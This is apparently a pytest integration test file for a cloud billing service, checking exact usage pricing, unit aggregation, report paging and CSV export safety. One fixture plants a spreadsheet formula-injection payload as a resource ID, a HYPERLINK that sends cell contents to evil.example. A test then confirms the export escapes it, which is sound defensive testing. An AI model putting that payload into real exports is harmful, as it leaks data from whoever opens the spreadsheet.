"""Amounts are exact until shown, and CSV cells never run as formulas, on the real engine."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from fractions import Fraction
from pathlib import Path
from typing import Any

import clickhouse_connect
import pytest

from api.usage_formats import csv_chunks
from billing.adapters.catalog_file import load_catalog
from billing.scope import EVERYTHING
from storage.connection import ClientPool
from storage.dashboards import CostGroup, CostWindow, Dashboards
from storage.schema import migrate
from storage.usage_queries import Granularity, GroupBy, UsageQueries, UsageWindow
from storage.usage_store import UsageStore
from tests.factories import vm_sample
from tests.integration.test_identities import DB, frame

pytestmark = pytest.mark.integration

HOUR = datetime(2026, 11, 2, 10, 0, tzinfo=UTC)
CATALOG = load_catalog(Path("billing/catalog.yaml"))


def stopped_vm_with_a_20_gib_ssd(resource_id: str, at: datetime) -> dict[str, Any]:
    """Stopped: only its disk is billed (no vCPU, RAM or network)."""
    disks = [{"device": "vda", "tier": "ssd", "size_gib": 20}]
    return vm_sample(resource_id, "cust-00001", at, power_state="stopped", disks=disks, net_tx_bytes=0)


@pytest.fixture
def queries(tmp_path: Path) -> Iterator[tuple[UsageQueries, Dashboards]]:
    client = clickhouse_connect.get_client(dsn=f"chdb://{tmp_path / 'exact'}")
    migrate(client, DB)
    store = UsageStore(client, DB)
    samples = [stopped_vm_with_a_20_gib_ssd("vm-a", HOUR + timedelta(minutes=5 * n)) for n in range(1, 13)]
    samples.append(stopped_vm_with_a_20_gib_ssd('=HYPERLINK("https://evil.example/?x="&A1,"open")', HOUR))
    for sample in samples:  # one flush each, as a live fleet's samples come
        store.write(frame([sample]), HOUR + timedelta(hours=1))
    pool = ClientPool(lambda: client, 1)
    yield UsageQueries(pool, DB), Dashboards(pool, DB)
    client.close()


def test_an_hour_of_samples_is_priced_exactly(queries):
    """Twelve 5-minute samples of a 20 GiB ssd disk: 20 GiB x 3600 s = 20 GiB-h at 0.00020 =
    0.004 exactly. Each sample alone is 1.666… GiB-h, 0.000333… rated and stored rounded at 12
    places (0.000333333333): summing those made 0.003999999996."""
    usage, dashboards = queries
    window = UsageWindow("cust-00001", HOUR, HOUR + timedelta(hours=1))
    rows = usage.usage(EVERYTHING, window, Granularity.HOUR, GroupBy.RESOURCE).to_pylist()
    vm_a = [row for row in rows if row["resource_id"] == "vm-a"]
    assert [(row["quantity"], row["amount"]) for row in vm_a] == [(Decimal("20"), Decimal("0.004"))]
    points, _ = dashboards.costs(
        EVERYTHING, CATALOG, CostWindow(HOUR, HOUR + timedelta(hours=1), Granularity.HOUR), CostGroup.CUSTOMER, top=None
    )
    # vm-a's 0.004, plus the other VM's one sample ending at 10:00 - in the hour before
    assert [point.amount for point in points] == [Decimal("0.004")]


def test_text_cells_of_the_hourly_csv_never_start_a_formula(queries):
    usage, _ = queries
    window = UsageWindow("cust-00001", HOUR - timedelta(hours=1), HOUR + timedelta(hours=1))
    text = b"".join(csv_chunks(usage.hourly(EVERYTHING, window))).decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert '\'=HYPERLINK("https://evil.example/?x="&A1,"open")' in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@")]
    assert "0.004000000000" in cells, "figures stay numbers"


def test_a_resources_row_whose_base_units_differ_is_added_apart(tmp_path: Path):
    """A 2-vCPU VM's hour is 2 vCPU-hours (7,200 vCPU-seconds / 3,600), at cust-00001's 0.0200:
    0.04. A row of the same meter and unit counted in another base unit (divisor 1: 0.5 vCPU-hour,
    0.01) is added after its own division: 2.5 vCPU-hours, 0.05. Added before it, the base units
    would make 7,200.5 / 3,600 vCPU-hours."""
    client = clickhouse_connect.get_client(dsn=f"chdb://{tmp_path / 'divisors'}")
    migrate(client, DB)
    samples = [vm_sample("vm-a", "cust-00001", HOUR + timedelta(minutes=5 * n), vcpu=2) for n in range(1, 13)]
    UsageStore(client, DB).write(frame(samples), HOUR + timedelta(hours=1))
    client.command(
        f"INSERT INTO {DB}.usage_hours (customer_id, hour, resource_id, product, meter, dimension, unit, currency, "
        "base_divisor, event_hour, base_sum, base_max, latest, amount, amount_base, rated_rows, stored_until) "
        "SELECT 'cust-00001', {h:DateTime('UTC')}, 'vm-a', 'vm', 'vcpu_hours', '', 'vCPU-hour', 'EUR', 1, "
        "{h:DateTime('UTC')}, 0.5, 0.5, ({h:DateTime64(3, 'UTC')}, 0.5), 0.01, 0.01, 1, now64(3)",
        parameters={"h": HOUR},
    )
    usage = UsageQueries(ClientPool(lambda: client, 1), DB)
    window = UsageWindow("cust-00001", HOUR, HOUR + timedelta(hours=1))
    for group_by in (GroupBy.RESOURCE, GroupBy.METER):
        rows = usage.usage(EVERYTHING, window, Granularity.HOUR, group_by).to_pylist()
        vcpu = [(row["quantity"], row["amount"], row["rated_rows"]) for row in rows if row["meter"] == "vcpu_hours"]
        assert vcpu == [(Decimal("2.5"), Decimal("0.05"), 13)], group_by
    client.close()


def test_a_report_page_reads_its_first_days_when_they_fill_it_and_totals_the_whole_window(tmp_path: Path):
    """Three stopped VMs with a 20 GiB ssd, an hour's sample every 6 hours from 1 to 10 November:
    12 rows an hour-and-resource report's day, 120 in all. Each sample is 20 GiB-h at 0.00020 =
    0.004, so the 10 days total 120 x 0.004 = 0.48 EUR whichever rows a page reads. A page of 5
    rows reads the first day's 12; one of 20 the first 8 days' 96; one of 200 all 120. By month,
    3 rows of 40 x 0.004 = 0.16."""
    client = clickhouse_connect.get_client(dsn=f"chdb://{tmp_path / 'pages'}")
    migrate(client, DB)
    store = UsageStore(client, DB)
    first = datetime(2026, 11, 1, tzinfo=UTC)
    samples = [
        {
            **(sample := stopped_vm_with_a_20_gib_ssd(f"vm-{n}", first + timedelta(days=day, hours=6 * k + 1))),
            "data": {**sample["data"], "interval_s": 3600},
        }  # an hour's: its usage is the hour before its time
        for day in range(10)
        for k in range(4)
        for n in (3, 1, 2)
    ]
    store.write(frame(samples), first + timedelta(days=11))
    usage = UsageQueries(ClientPool(lambda: client, 1), DB)
    window = UsageWindow("cust-00001", first, first + timedelta(days=10))
    whole = usage.usage(EVERYTHING, window, Granularity.HOUR, GroupBy.RESOURCE)
    by_time = ["period_start", "resource_id"]
    shown = lambda rows, n: rows.sort_by([(k, "ascending") for k in by_time]).slice(0, n).to_pylist()  # noqa: E731

    for asked, read, more in ((5, 12, True), (20, 96, True), (200, 120, False)):
        page = usage.report_page(EVERYTHING, window, Granularity.HOUR, GroupBy.RESOURCE, asked)
        assert (page.rows.num_rows, page.more) == (read, more)
        assert shown(page.rows, asked) == shown(whole, asked)
        assert page.totals == {"EUR": Fraction("0.48")}
    by_month = usage.report_page(EVERYTHING, window, Granularity.MONTH, GroupBy.RESOURCE, 2)
    # months are never narrowed: each VM's month is its 40 samples, 0.16
    assert by_month.rows["amount"].to_pylist() == [Decimal("0.16")] * 3 and by_month.more  # 3 rows, 2 shown
    client.close()
